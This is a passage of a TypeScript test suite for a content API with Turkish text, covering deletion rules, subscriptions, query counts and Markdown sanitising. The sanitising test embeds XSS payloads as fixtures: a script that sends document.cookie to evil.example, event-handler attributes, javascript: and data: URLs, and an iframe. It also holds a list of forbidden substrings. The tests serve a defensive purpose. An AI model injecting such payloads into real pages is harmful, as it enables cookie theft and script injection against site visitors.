    expect(errorOf(res)).toMatchObject({ code: 'CONFLICT', reason: 'CONTENT_NOT_DELETABLE' });
    const back = ok(await hub.request(ReturnContentToDraftDocument, { id: live.id, version: live.version }, STAFF)).returnContentToDraft;
    expect(back.status).toBe('DRAFT');
    expect(errorOf(await hub.request(DeleteContentDocument, { id: live.id, version: back.version }, STAFF))).toMatchObject({ reason: 'CONTENT_NOT_DELETABLE' });
    const archived = await archive(await create(announcement(`Arşivlik ${uniq()}`)));
    expect(errorOf(await hub.request(DeleteContentDocument, { id: archived.id, version: archived.version }, STAFF))).toMatchObject({ reason: 'CONTENT_NOT_DELETABLE' });
    const parent = await create({ type: 'PAGE', title: { tr: `Üst ${uniq()}` } });
    await create({ type: 'PAGE', title: { tr: `Alt ${uniq()}` }, page: { parentId: parent.id } });
    expect(errorOf(await hub.request(DeleteContentDocument, { id: parent.id, version: parent.version }, STAFF))).toMatchObject({ code: 'CONFLICT', reason: 'PAGE_HAS_CHILDREN' });
    expect(await read(live.id, STAFF)).not.toBeNull();
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('sanitising', () => {
  const hostile = [
    '# Duyuru',
    'Normal **kalın** ve _eğik_ metin, [başvuru](https://example.org/apply) bağlantısı.',
    '- bir\n- iki',
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '<img src="https://example.org/x.png" onerror="alert(1)">',
    '[tıkla](javascript:alert(document.domain))',
    '<a href="jAvAsCrIpT:alert(1)">büyük harf</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    '![piksel](data:image/png;base64,iVBORw0KGgo=)',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<p style="position:fixed;top:0">stilli paragraf</p>',
    '<div onclick="steal()" style="color:red">div</div>',
  ].join('\n\n');
  const forbidden = ['<script', 'document.cookie', 'onerror', 'onload', 'onclick', 'javascript:', 'jAvAsCrIpT', '<iframe', '<svg', 'data:', 'style=', '<div'];

  it('renders hostile Markdown to HTML without scripts, event handlers, javascript: or data: URLs, iframes, svg or styles, keeping ordinary formatting', async () => {
    const item = await publish(await create(announcement(`Zararlı ${uniq()}`, { body: { tr: hostile, en: hostile.replace('Duyuru', 'Notice') } })));
    for (const locale of ['tr', 'en'] as const) {
      const html = (await read(item.id, undefined, locale))!.bodyHtml!;
      for (const bad of forbidden) expect({ locale, bad, found: html.includes(bad) }).toEqual({ locale, bad, found: false });
      expect(html).toContain(locale === 'tr' ? '<h2>Duyuru</h2>' : '<h2>Notice</h2>');
      expect(html).toContain('<strong>kalın</strong>');
      expect(html).toContain('<em>eğik</em>');
      expect(html).toContain('<ul>\n<li>bir</li>\n<li>iki</li>\n</ul>');
      expect(html).toContain('<a href="https://example.org/apply" rel="noopener noreferrer nofollow">başvuru</a>');
      expect(html).toContain('<img src="https://example.org/x.png" />');
      expect(html).toContain('<p>stilli paragraf</p>');
      expect(html.match(/<a /g)!.length).toBe(html.match(/rel="noopener noreferrer nofollow"/g)!.length);
    }
  });

  it('returns the Markdown as written, for editing, in body and bodyTranslations', async () => {
    const item = await create(announcement(`Ham Metin ${uniq()}`, { body: { tr: hostile } }));
    expect(item.body).toBe(hostile);
    expect(item.bodyTranslations).toEqual({ tr: hostile, en: null });
    const edited = `${hostile}\n\n<script>ikinci()</script>Son satır`;
    const updated = await update({ id: item.id, version: item.version, body: { tr: edited } });
    expect(updated.body).toBe(edited);
    expect(updated.bodyHtml).not.toContain('ikinci()');
    expect(updated.bodyHtml).toContain('Son satır');
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('contentChanged subscription', () => {
  type Sub = ReturnType<typeof subscribe<ContentChangedFeedSubscription, ContentChangedFeedSubscriptionVariables>>;
  const open: Sub[] = [];
  const follow = async (as?: Identity) => {
    const sub: Sub = subscribe(await hub.ws(as), ContentChangedFeedDocument, {});
    open.push(sub);
    await waitFor(() => hub.hub.dispatcher.listenerCount >= open.length, 5000, 'the subscription to register');
    return sub;
  };
  afterEach(async () => {
    open.splice(0).forEach((sub) => sub.dispose());
    await waitFor(() => hub.hub.dispatcher.listenerCount === 0, 5000, 'the subscriptions to end');
  });
  const about = (id: string) => (r: { data?: ContentChangedFeedSubscription | null }) => r.data?.contentChanged.contentId === id;

  it('delivers CREATED, STATUS_CHANGED (DRAFT → PUBLISHED) and PUBLISHED to the office for a draft being published', async () => {
    const sub = await follow(STAFF);
    const draft = await create(announcement(`Abone Ofis ${uniq()}`));
    const live = await publish(draft);
    const created = (await sub.nextWhere(about(draft.id))).data!.contentChanged;
    expect(created).toMatchObject({ change: 'CREATED', type: 'ANNOUNCEMENT', version: 1, actor: STAFF.sub, from: null, to: null });
    const statusChanged = (await sub.nextWhere(about(draft.id))).data!.contentChanged;
    expect(statusChanged).toMatchObject({ change: 'STATUS_CHANGED', from: 'DRAFT', to: 'PUBLISHED', version: live.version, actor: STAFF.sub });
    const published = (await sub.nextWhere(about(draft.id))).data!.contentChanged;
    expect(published).toMatchObject({ change: 'PUBLISHED', version: live.version, content: { id: draft.id, status: 'PUBLISHED', title: draft.title } });
  });

  it('delivers to a visitor the publication of a public item, but nothing about drafts', async () => {
    const sub = await follow();
    const draft = await create(announcement(`Abone Taslak ${uniq()}`));
    const edited = await update({ id: draft.id, version: draft.version, title: { tr: `Abone Taslak Düzenlendi ${uniq()}` } });
    await submit(edited);
    const item = await create(announcement(`Abone Ziyaretçi ${uniq()}`));
    await publish(item);
    const first = (await sub.nextWhere(about(item.id))).data!.contentChanged;
    expect(first).toMatchObject({ change: 'STATUS_CHANGED', from: 'DRAFT', to: 'PUBLISHED', actor: null, content: { id: item.id, status: 'PUBLISHED' } });
    const second = (await sub.nextWhere(about(item.id))).data!.contentChanged;
    expect(second).toMatchObject({ change: 'PUBLISHED', actor: null, content: { id: item.id, title: item.title } });
    // The draft's creation, edit and submission came before, and none of them was delivered.
    expect(sub.results.filter(about(draft.id))).toEqual([]);
    expect(sub.results.filter(about(item.id)).map((r) => r.data!.contentChanged.change)).toEqual(['STATUS_CHANGED', 'PUBLISHED']);
    const another = await create(announcement(`Abone Sessiz ${uniq()}`));
    await update({ id: another.id, version: another.version, summary: { tr: 'sessiz' } });
    expect(await sub.nothingWithin(800)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------------------------------

describe('statement count', () => {
  it('runs the same number of SQL statements for events(first: 2) and events(first: 10) with category, cover image and path', async () => {
    const CTAG = `count-${RUN}`;
    const cover = await uploadImage();
    for (let i = 0; i < 11; i++) {
      await publish(
        await create(event(`Sayım ${i} ${uniq()}`, { startsAt: at((i + 1) * DAY) }, { tags: [CTAG], categoryKey: i % 2 ? CATEGORY_A : CATEGORY_B, coverImageId: cover })),
      );
    }
    const small = await hub.request(ContentEventPageDocument, { filter: { tags: [CTAG] }, first: 2 });
    const large = await hub.request(ContentEventPageDocument, { filter: { tags: [CTAG] }, first: 10 });
    const nodes = ok(large).events.nodes;
    expect(ok(small).events.nodes).toHaveLength(2);
    expect(nodes).toHaveLength(10);
    expect(nodes.every((n) => n.category && n.coverImage?.id === cover && n.path)).toBe(true);
    expect(small.extensions!.sqlStatements).toBeGreaterThan(0);
    expect(large.extensions!.sqlStatements).toBe(small.extensions!.sqlStatements);
  });
});
